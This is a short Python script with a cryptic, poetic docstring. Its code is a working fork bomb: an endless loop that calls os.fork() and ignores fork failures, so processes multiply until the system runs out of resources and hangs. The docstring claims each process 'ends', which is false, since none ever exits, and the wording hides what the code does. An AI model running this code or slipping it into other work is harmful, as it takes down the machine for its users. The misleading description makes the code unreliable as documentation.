"""Each process starts others and ends: none is there when it is looked for."""

import os

while True:
    try:
        os.fork()
    except OSError:
        pass
